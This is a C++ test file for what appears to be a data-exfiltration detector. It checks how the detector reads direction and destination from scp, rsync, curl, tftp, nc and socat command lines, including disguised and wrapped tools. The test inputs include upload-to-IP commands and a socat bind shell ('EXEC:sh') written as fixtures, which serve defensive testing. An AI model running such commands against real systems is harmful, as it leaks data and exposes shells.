#include <sstream>

#include "told.hpp"

/// Transfer-tools' §3.2: what a command line says of direction and destination.
namespace auexfil::test {
namespace {

std::vector<std::string> words(const std::string& text) {
  std::vector<std::string> argv;
  std::istringstream stream(text);
  std::string word;
  while (stream >> word) {
    if (word.front() == '\'') {
      std::string rest;
      while (word.back() != '\'' && stream >> rest) {
        word += " " + rest;
      }
      word = word.substr(1, word.size() - 2);
    }
    argv.push_back(word);
  }
  return argv;
}

/// "out 203.0.113.9": direction, then each peer.
std::string reading(const std::string& line) {
  const std::vector<std::string> argv = words(line);
  const transfer::Tool* const tool = rules().tools.find_by_name("/usr/bin/" + argv[0], argv);
  if (tool == nullptr) {
    return "no tool";
  }
  const transfer::ArgReading read = transfer::read_argv(*tool, argv);
  std::string text = to_word(read.direction);
  for (const transfer::ArgPeer& peer : read.peers) {
    text += " " + peer.host;
    if (peer.direction != read.direction) {
      text += std::string("(") + to_word(peer.direction) + ")";
    }
  }
  return text;
}

}  // namespace

TEST_CASE("argv: direction and destination") {
  const auto row = GENERATE(table<std::string, std::string>({
      {"scp a b host.example:p", "out host.example"},
      {"scp -P 2222 -i key f drop@203.0.113.9:up/", "out 203.0.113.9"},
      {"scp f drop@[2001:db8::9]:up/", "out 2001:db8::9"},
      {"scp f scp://u@host.example:2222/p", "out host.example"},
      {"scp host.example:p local", "in host.example"},
      {"scp A:p B:q", "both A(in) B(out)"},
      {"scp -3 A:f B:g", "both A(in) B(out)"},
      {"scp ./a:b host.example:", "out host.example"},
      {"scp a b", "unknown"},
      {"sftp -b F host.example", "unknown host.example"},
      {"sftp user@host.example", "unknown host.example"},
      {"sftp host.example:file", "in host.example"},
      {"ssh -x -s -- host.example sftp", "unknown host.example"},
      {"ssh host.example 'scp -t p'", "out host.example"},
      {"ssh host.example 'scp -f p'", "in host.example"},
      {"ssh -p 2222 -l u host.example 'cat > f'", "out host.example"},
      {"ssh u@host.example 'tar xf -'", "out host.example"},
      {"ssh host.example 'dd of=/srv/f'", "out host.example"},
      {"ssh host.example 'cat f'", "in host.example"},
      {"ssh host.example 'tar cf - d'", "in host.example"},
      {"ssh host.example rsync --server -logDtpr . d", "out host.example"},
      {"ssh host.example rsync --server --sender -logDtpr . d", "in host.example"},
      {"ssh host.example \'git-receive-pack repo\'", "out host.example"},
      {"ssh host.example \'git-upload-pack repo\'", "in host.example"},
      {"rsync -a d/ host.example:d", "out host.example"},
      {"rsync -a host.example:d /srv", "in host.example"},
      {"rsync host.example:d -a -e ssh /srv", "in host.example"},
      {"rsync -a f rsync://host.example/m", "out host.example"},
      {"rsync -a f host.example::m", "out host.example"},
      {"rsync -a --rsh ssh --exclude x d/ host.example:d", "out host.example"},
      {"rsync -a a/ b/", "unknown"},
      {"curl -T f https://host.example/f", "out host.example"},
      {"curl --upload-file f https://host.example/f", "out host.example"},
      {"curl -F x=@f https://host.example/", "out host.example"},
      {"curl -d @f https://host.example/", "out host.example"},
      {"curl -sS -o f https://host.example/", "in host.example"},
      {"curl -T f ftp://u:pw@203.0.113.9/f", "out 203.0.113.9"},
      {"curl -K -", "unknown"},
      {"wget --post-file=f http://host.example/", "out host.example"},
      {"wget http://host.example/f", "in host.example"},
      {"ftp -n host.example", "unknown host.example"},
      {"ftp -n server", "unknown server"},
      {"ftp -u ftp://u:pw@host.example/r f", "out host.example"},
      {"ftp -o f ftp://host.example/f", "in host.example"},
      {"ftp", "unknown"},
      {"tftp host.example -m binary -c put dump.bin r", "out host.example"},
      {"tftp server -c get dump.bin", "in server"},
      {"atftp --put -l f -r f host.example", "out host.example"},
      {"atftp --get -r f host.example 69", "in host.example"},
      {"ncftpput -u u -p pw host.example d f", "out host.example"},
      {"ncftpget host.example d f", "in host.example"},
      {"busybox ftpput -u u -p x host.example r l", "out host.example"},
      {"busybox tftp -p -l l -r r host.example", "out host.example"},
      {"lftp -e 'put f; quit' host.example", "out host.example"},
      {"lftp -c 'mirror -R d' host.example", "out host.example"},
      {"lftp -c 'mirror d' host.example", "unknown host.example"},
      {"nc -n 203.0.113.9 9000", "unknown 203.0.113.9"},
      {"nc -w 5 host.example 9000", "unknown host.example"},
      {"ncat --send-only host.example 9000", "unknown host.example"},
      {"nc -l 9000", "unknown"},
      {"socat -u FILE:f TCP:host.example:9000", "unknown host.example"},
      {"socat TCP-LISTEN:9000 EXEC:sh", "unknown"},
      {"pscp -batch f u@host.example:p", "out host.example"},
      {"psftp -b F u@host.example", "unknown host.example"},
      {"git push origin main", "out"},
      {"git fetch", "in"},
      {"aria2c https://host.example/f", "in host.example"},
  }));
  CAPTURE(std::get<0>(row));
  CHECK(reading(std::get<0>(row)) == std::get<1>(row));
}

TEST_CASE("argv: a tool under another name is known by the shape of its arguments") {
  const auto row = GENERATE(table<std::string, std::string>({
      {"update-agent -s -T /srv/d ftp://203.0.113.9/u", "curl"},
      {"x --upload-file f https://host.example/", "curl"},
      {"/opt/x/rsync --daemon --no-detach", "rsync-server"},
      {"python3 -m http.server", "-"},
  }));
  CAPTURE(std::get<0>(row));
  const transfer::Tool* const tool = rules().tools.find_by_shape(words(std::get<0>(row)));
  CHECK((tool == nullptr ? "-" : tool->name) == std::get<1>(row));
}

TEST_CASE("argv: what a wrapper runs is not the wrapper") {
  const auto line = GENERATE(values<std::string>({
      "sh -c 'curl -T f http://203.0.113.9/'",
      "timeout 60 curl -T f http://203.0.113.9/",
      "su - alice -c 'curl -T f http://203.0.113.9/'",
      "watch curl -T f http://203.0.113.9/",
      "python3 -c 'x -T f http://203.0.113.9/'",
  }));
  CAPTURE(line);
  Log log;
  log.audited = only({"execve"});
  log.fork(1, 900);
  const std::vector<std::string> argv = words(line);
  log.exec(900, "/usr/bin/" + argv[0], argv);
  CHECK(tell(log).empty());
}

TEST_CASE("tools: every mistake is told with its line") {
  const input::RuleFile file = input::parse_rule_file(
      "[tool a]\nprogram = a\ngrammer = copy\n"
      "[tool b]\nprogram = b\ngrammar = dance\nfloor = 3 apples\n"
      "[tool c]\nfloor = 4KiB\n"
      "[tool d]\nprogram = d\nside = middle\ncontrol = 70000\ntransport = pigeon\nnature = up\n"
      "[lookup e]\nports = 53\n",
      "tools.conf");
  REQUIRE(file.mistakes.empty());
  std::vector<input::Mistake> mistakes;
  static_cast<void>(transfer::Tools::load(file.sections, mistakes));
  std::vector<int> lines;
  for (const input::Mistake& mistake : mistakes) {
    lines.push_back(mistake.line);
  }
  CHECK(lines == std::vector<int>{3, 6, 7, 8, 12, 13, 14, 15, 17});
}

}  // namespace auexfil::test
